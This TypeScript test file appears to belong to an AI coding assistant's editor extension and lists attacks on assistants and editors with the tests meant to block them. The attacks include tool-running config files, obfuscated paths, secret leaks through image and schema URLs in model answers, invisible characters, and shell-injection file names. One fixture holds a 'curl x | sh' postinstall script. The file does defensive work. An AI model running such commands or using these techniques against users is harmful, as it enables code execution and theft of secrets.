import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { guardedChange } from "../src/base/guard/guarded-change";
import { guardedPlace } from "../src/base/guard/guarded-places";

// What was done to other assistants and editors, kind by kind, and where it is shown that it does
// not work here. A kind whose test stands elsewhere names it by its file and its own words, which
// have to be there: who renames or removes such a test is sent here.

type Stand = readonly [file: string, words: string];

/** @param stands at least one: a kind that nothing holds off has no line here. */
function heldOffBy(kind: string, ...stands: readonly [Stand, ...Stand[]]): void {
  describe(kind, () => {
    it.each(stands)("is held off as %s says: %s", (file, words) => {
      expect(readFileSync(join(import.meta.dirname, file), "utf8")).toContain(words);
    });
  });
}

/** The files of the source, without comments, in which a pattern stands. */
function sourcesWith(pattern: RegExp): string[] {
  const root = join(import.meta.dirname, "../src");
  return readdirSync(root, { recursive: true, encoding: "utf8" })
    .filter((file) => file.endsWith(".ts"))
    .filter((file) => {
      const code = readFileSync(join(root, file), "utf8");
      return pattern.test(code.replace(/^\s*\/\*[\s\S]*?\*\//gm, "").replace(/^\s*\/\/.*$/gm, ""));
    })
    .sort();
}

const isGuarded = (path: string): boolean => guardedPlace(path) !== undefined;

describe("an edit of settings that let tools run unasked", () => {
  it.each([
    ["of the editor in the folder", ".vscode/settings.json"],
    ["of several folders together", "team.code-workspace"],
    ["of another editor", ".idea/misc.xml"],
    ["of the person, by an absolute path", "/home/me/.config/Code/User/settings.json"],
    ["of the repository", ".git/config"],
    ["of a container", ".devcontainer/devcontainer.json"],
    ["of tasks and launches", ".vscode/launch.json"],
    ["of hooks", ".husky/pre-push"],
    ["of servers that an assistant starts", ".cursor/mcp.json"],
  ])("is guarded: %s", (_whose, path) => {
    expect(isGuarded(path)).toBe(true);
  });

  it("is guarded in a manifest, by what it changes", () => {
    const after = '{ "scripts": { "postinstall": "curl x | sh" } }';
    expect(guardedChange("package.json", "{}", after)?.kind).toBe("scripts");
  });
});
heldOffBy(
  "an edit of a guarded place among others, taken with a general yes",
  ["session/several-files.test.ts", "is no part of accepting: the rest lands, and it waits"],
  ["editor/guarded.spec.ts", "changes nothing by accepting alone"],
  ["cli/several-files.test.ts", "of a guarded place is written only when it is named"],
);

describe("a guarded place under another name", () => {
  it.each([
    ["another case", ".Cursor/MCP.json"],
    ["a way round", "a/../.vscode/settings.json"],
    ["a way that says nothing", "./.vscode/settings.json"],
    ["a long prefix", "//?/C:/project/.vscode/settings.json"],
    ["an ending that is not seen", ".vscode. /settings.json"],
    ["a short name", "VSCODE~1/settings.json"],
    ["letters of another form", ".ｖscode/settings.json"],
  ])("is known: %s", (_how, path) => {
    expect(isGuarded(path)).toBe(true);
  });
});
heldOffBy(
  "a guarded place, or one outside, behind a link",
  ["session/several-files.test.ts", "is asked about when its link leads to a guarded place"],
  ["session/several-files.test.ts", "is asked about when its link leads out of the folder"],
  ["session/review/real-place.test.ts", "and not when a link leads out"],
  ["project/named-context.test.ts", "is left alone under another name as well"],
);

heldOffBy(
  "a secret that leaves in the address of a schema, a style or an entity",
  ["base/guard/guarded-change.test.ts", "an address that is fetched when a file is opened"],
  ["session/several-files.test.ts", "is a schema that the editor would fetch"],
  ["editor/guarded.spec.ts", "makes the editor fetch nothing, where the same text in a file does"],
  ["editor/guarded.spec.ts", "fetches nothing for a new file either"],
);
heldOffBy(
  "a secret that leaves in the address of a picture or a diagram in an answer",
  ["webview/panel-safety.test.ts", "gets no picture fetched, in whatever form it names one"],
  ["webview/panel-safety.test.ts", "gets no request out, no script in"],
  ["webview/panel-safety.test.ts", "refuses HTML from a string, a second policy"],
);
heldOffBy(
  "a link that hides where it leads, or leads past the policy by a host that is trusted",
  ["webview/markdown/markdown-html.test.ts", "shows a picture's words and never its address"],
  ["webview/markdown/markdown-html.test.ts", "an https link says which host it leads to"],
  ["webview/panel-safety.test.ts", "gets no link but to https"],
  ["webview/panel-safety.test.ts", "cannot lead the page away"],
);
heldOffBy(
  "a command that seems harmless and carries a secret away",
  ["checks/hostile.test.ts", "finds no secret in its environment, and another home"],
  ["checks/hostile.test.ts", "takes its words as they are"],
);

describe("a command that a shell reads otherwise than who allowed it", () => {
  it("is none: no program is started through a shell", () => {
    expect(
      sourcesWith(/\bshell:\s*(?:true|["'`])|\bexecSync\(|\bexec\(\s*[`"']|spawnSync\(/),
    ).toEqual([]);
  });
});
heldOffBy("a task, a file or a folder whose name is a command or an option", [
  "checks/hostile.test.ts",
  "has test files whose names are options and quotes, and they are names all the same",
]);

heldOffBy(
  "something else than what was agreed to, put in its place afterwards",
  ["session/several-files.test.ts", "is asked about anew when another text would land"],
  ["session/several-files.test.ts", "is planned anew when one of the files changes in between"],
  ["session/several-files.test.ts", "is asked about where it leads now"],
  ["ui/trouble.spec.ts", "nothing is written, and both versions are shown"],
);

describe("a list of servers in the repository that are started unasked", () => {
  it("is read by nobody here: its names stand only among guarded places and kinds of JSON", () => {
    expect(sourcesWith(/mcp\.json|mcpServers/)).toEqual([
      "base/guard/guarded-places.ts",
      "base/languages/known/json.ts",
    ]);
  });
});
heldOffBy(
  "settings of the repository that name a program, an address or a model, before it is trusted",
  ["manifest.test.ts", "a folder that is not trusted sets nothing that says where code is sent"],
  ["manifest.test.ts", "no folder, trusted or not, names a file that is loaded"],
  ["ui/untrusted.spec.ts", "a folder that nobody trusts yet adds, changes and chooses no server"],
  ["checks/hostile.test.ts", "has a Python of its own, which is not run before"],
  ["checks/hostile.test.ts", "has a git configuration that names programs, which are not run"],
);
heldOffBy(
  "a server's address that is changed so that its key goes elsewhere",
  ["model-setup/connect/connect-server.test.ts", "gets the key that was entered for its address"],
  ["model-setup/network.test.ts", "the other gets neither key nor code"],
);
heldOffBy("a file of the repository that gives commands of the assistant another meaning", [
  "project/named-context.test.ts",
  "are not read in a folder that the person does not trust",
]);
heldOffBy(
  "letters in the code that nobody sees and the model reads",
  ["runs/contract.test.ts", "writes what cannot be seen by its number and says how much"],
  ["webview/panel-safety.test.ts", "cannot hide characters"],
);
heldOffBy("a page in a browser that talks to a server on this machine", [
  "built-in-engine/engine-http.test.ts",
  "answers nobody without the secret, nobody who calls it by another name, and no web page",
]);
heldOffBy(
  "a model's file whose numbers lead out of it, or are too large",
  ["built-in-engine/gguf-header.test.ts", "in whatever bytes is refused in words"],
  ["built-in-engine/gguf-header.test.ts", "by a header of thousands of millions of bytes"],
  ["core/model/ollama/releases.test.ts", "has the holes that were closed later"],
);
heldOffBy("a model's name that makes a server fetch from a host of somebody's choice", [
  "model-setup/connect/connect-ollama.test.ts",
  "has fetched from a host nobody agreed to, is refused before the daemon hears of it",
]);
heldOffBy(
  "a flood of words without an end",
  ["checks/hostile.test.ts", "that floods is ended"],
  ["core/run/steer/thinking-budget.test.ts", "is two minutes of what the model writes"],
);

// Two kinds concern nothing of ours. Extensions that serve a preview of the person's files to a
// browser: the panel is a page of the editor without a port. The token of a model registry, which
// another one asks for: Ollama holds it, and never leaves for a host that the person did not name.
